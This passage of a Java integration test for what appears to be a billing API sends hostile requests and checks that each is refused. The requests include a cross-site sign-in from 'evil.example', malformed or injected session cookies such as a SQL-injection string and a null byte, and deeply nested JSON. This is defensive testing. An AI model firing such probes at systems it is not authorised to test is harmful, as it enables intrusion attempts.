        attempts.add(new Attempt("sign-in from another site", client(null), "POST", "/console/session", bytes(valid),
                "application/json", Expect.REJECT, "X-Billfold-Console", "1", "Origin", "https://evil.example"));
        for (String cookie : List.of("billfold_session=", "billfold_session=" + "x".repeat(5_000),
                "billfold_session=%00", "billfold_session=' OR 1=1 --", "billfold_session=bf_x; billfold_session=y",
                "billfold_session=\"quoted\"", "billfold_session=" + f.admin().apiKey())) {
            for (String path : List.of("/v1/customers", "/console/session")) {
                attempts.add(new Attempt("cookie " + abbreviate(cookie), client(null), "GET", path, null, null,
                        Expect.REJECT, "Cookie", cookie, "X-Billfold-Console", "1"));
            }
            attempts.add(new Attempt("write with cookie " + abbreviate(cookie), client(null), "POST",
                    "/v1/customers", bytes("{\"customer_name\": \"x\"}"), "application/json", Expect.REJECT,
                    "Cookie", cookie, "X-Billfold-Console", "1"));
        }
        return attempts;
    }

    // ---- running ----------------------------------------------------------------------------------------------

    /** Sends every attempt; answers a description of each broken promise. */
    private List<String> run(List<Attempt> attempts) {
        List<String> failures = new ArrayList<>();
        String state = settledState();
        for (Attempt attempt : attempts) {
            Response response = attempt.client().sendBytes(attempt.method(), attempt.path(), attempt.body(),
                    attempt.contentType(), attempt.headers());
            int status = response.status();
            String what = attempt.method() + " " + abbreviate(attempt.path()) + " [" + attempt.label() + "] -> "
                    + status + " " + abbreviate(response.raw().body());
            boolean success = status >= 200 && status < 300;
            if (status >= 500) {
                failures.add("server error: " + what);
            }
            if (attempt.expect() == Expect.REJECT && !(status >= 400 && status < 500)) {
                failures.add("not refused: " + what);
            }
            if (attempt.expect() == Expect.ACCEPT && !success) {
                failures.add("not accepted: " + what);
            }
            if (!success) {
                String contentType = response.header("Content-Type");
                if (contentType == null || !contentType.startsWith("application/problem+json")
                        || response.json() == null || response.code() == null) {
                    failures.add("not a problem response with a code: " + what + " (" + contentType + ")");
                }
            }
            if (response.raw().headers().firstValue("Set-Cookie").isPresent()) {
                failures.add("header injected: " + what);
            }
            if (attempt.method().equals("GET")) {
                continue;
            }
            if (success) {
                state = settledState();
            } else {
                String now = state();
                if (!now.equals(state)) {
                    failures.add("state changed: " + what);
                    state = settledState();
                }
            }
        }
        return failures;
    }

    /** The state once the read models have caught up with every event stored so far. */
    private String settledState() {
        Long head = jdbc.queryForObject("select coalesce(max(global_index), 0) from domain_event_entry", Long.class);
        Response caughtUp = fixture().admin().get("/v1/customers?limit=1", "Billfold-Await-Position",
                String.valueOf(head));
        assertThat(caughtUp.status()).as("read models catch up").isEqualTo(200);
        return state();
    }

    private String state() {
        return jdbc.queryForObject(STATE, String.class);
    }

    // ---- building bodies --------------------------------------------------------------------------------------

    /** A JSON object whose leaves are raw JSON text, nested objects (maps) or arrays (lists). */
    private static Map<String, Object> template(Object... keysAndValues) {
        Map<String, Object> map = new LinkedHashMap<>();
        for (int i = 0; i < keysAndValues.length; i += 2) {
            map.put((String) keysAndValues[i], keysAndValues[i + 1]);
        }
        return map;
    }

    /** Paths of every field: {@code address}, {@code address.line1}, {@code tax_info}, {@code tax_info.0.tax_id}. */
    private static List<String> leaves(Object node, String prefix) {
        List<String> paths = new ArrayList<>();
        if (node instanceof Map<?, ?> map) {
            map.forEach((key, value) -> {
                String path = prefix.isEmpty() ? (String) key : prefix + "." + key;
                paths.add(path);
                if (value instanceof Map<?, ?> || value instanceof List<?>) {
                    paths.addAll(leaves(value, path));
                }
            });
        } else if (node instanceof List<?> list) {
            for (int i = 0; i < list.size(); i++) {
                paths.add(prefix + "." + i);
                if (list.get(i) instanceof Map<?, ?>) {
                    paths.addAll(leaves(list.get(i), prefix + "." + i));
                }
            }
        }
        return paths;
    }

    private static Object valueAt(Object node, String path) {
        for (String step : path.split("\\.")) {
            node = node instanceof List<?> list ? list.get(Integer.parseInt(step)) : ((Map<?, ?>) node).get(step);
        }
        return node;
    }

    /** The template as JSON text, with the field at {@code path} replaced by the raw JSON {@code value}. */
    private static String with(Object node, String path, String value) {
        return render(node, "", path, value);
    }

    private static String render(Object node, String here, String target, String value) {
        if (here.equals(target)) {
            return value;
        }
        Function<String, String> child = step -> here.isEmpty() ? step : here + "." + step;
        if (node instanceof Map<?, ?> map) {
            List<String> members = new ArrayList<>();
            map.forEach((key, item) -> members.add(quoted((String) key) + ": "
                    + render(item, child.apply((String) key), target, value)));
            return "{" + String.join(", ", members) + "}";
        }
        if (node instanceof List<?> list) {
            List<String> items = new ArrayList<>();
            for (int i = 0; i < list.size(); i++) {
                items.add(render(list.get(i), child.apply(String.valueOf(i)), target, value));
            }
            return "[" + String.join(", ", items) + "]";
        }
        return (String) node;
    }

    private Attempt attempt(Client client, String method, String path, String body, Expect expect, String label) {
        return new Attempt(abbreviate(label), client, method, path, bytes(body), "application/json", expect);
    }

    private static Attempt get(Client client, String path, Expect expect) {
        return new Attempt("query", client, "GET", path, null, null, expect);
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"") + "\"";
    }

    private static String deepArray(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    private static String deepObject(int depth) {
        return "{\"a\": ".repeat(depth) + "1" + "}".repeat(depth);
    }

    private static String manyKeys(int count) {
        List<String> members = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            members.add("\"k" + i + "\": \"v\"");
        }
        return "{" + String.join(", ", members) + "}";
    }

    private static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String abbreviate(String text) {
        return text == null ? "" : text.length() > 120 ? text.substring(0, 120) + "…(" + text.length() + ")" : text;
    }
}
